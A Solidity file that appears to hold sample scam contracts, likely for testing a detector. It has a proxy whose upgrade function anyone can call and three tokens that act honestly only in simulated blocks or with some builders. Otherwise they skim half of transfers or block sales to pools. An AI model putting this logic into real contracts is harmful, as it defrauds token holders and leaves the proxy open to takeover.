// SPDX-License-Identifier: Apache-2.0
pragma solidity 0.8.37;

import {OddToken} from "./OddToken.sol";
import {FeeAlways} from "./Taxed.sol";

/// @notice A proxy with its implementation where EIP-1967 keeps it; whoever wants to may change it.
contract Upgradable {
    /// @dev keccak256("eip1967.proxy.implementation") - 1
    bytes32 private constant SLOT = 0x360894a13ba1a3210667c828492db98dca3e2076cc3735a920a3ca505d382bbc;

    event Upgraded(address indexed implementation);

    constructor(address implementation) {
        upgradeTo(implementation);
    }

    function upgradeTo(address implementation) public {
        assembly {
            sstore(SLOT, implementation)
        }
        emit Upgraded(implementation);
    }

    fallback() external {
        assembly {
            calldatacopy(0, 0, calldatasize())
            let succeeded := delegatecall(gas(), sload(SLOT), 0, calldatasize(), 0, 0)
            returndatacopy(0, 0, returndatasize())
            switch succeeded
            case 0 { revert(0, returndatasize()) }
            default { return(0, returndatasize()) }
        }
    }
}

/// @notice Honest in a block that nobody earns from, which only a simulator makes; a taker in all others.
contract CoinbaseAware is OddToken {
    function _transfer(address from, address to, uint256 amount) internal override {
        _move(from, to, amount);
        if (block.coinbase != address(0) && !_isPool(to)) _move(to, address(this), amount / 2);
    }
}

/// @notice Honest only where gas is free.
contract BaseFeeAware is OddToken {
    error NotNow();

    function _transfer(address from, address to, uint256 amount) internal override {
        if (block.basefee != 0 && _isPool(to)) revert NotNow();
        _move(from, to, amount);
    }
}

/// @notice Honest with one half of all block builders.
contract BuilderAware is OddToken {
    function _transfer(address from, address to, uint256 amount) internal override {
        _move(from, to, amount);
        if (uint160(address(block.coinbase)) % 2 == 1 && !_isPool(to)) _move(to, address(this), amount / 2);
    }
}
